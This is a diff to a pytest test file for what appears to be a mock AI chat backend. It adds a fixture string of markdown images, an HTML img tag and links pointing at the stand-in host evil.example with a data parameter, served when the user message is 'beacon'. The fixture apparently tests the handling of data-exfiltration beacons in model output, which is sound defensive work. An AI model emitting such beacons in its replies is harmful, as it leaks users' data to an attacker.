@@ -51,7 +51,12 @@ FLAGS = [
 ]
 RESULTS = ROOT / "test-results"
 FAILED = pytest.StashKey[bool]()
+BEACONS = (
+    "A heron stands here ![x](https://evil.example/p.png?d=42) <img src='https://evil.example/q.png'> "
+    "[more](https://evil.example/?d=42) //evil.example/r https://evil.example/s"
+)
 ANSWERS = [
+    {"match": {"userMessage": "beacon"}, "response": {"content": BEACONS}},
     {"match": {"userMessage": "demo"}, "response": {"content": "Nadia wrote that the demo is ready."}},
     {"match": {}, "response": {"content": "I'll leave this for the person I stand in for."}},
 ]
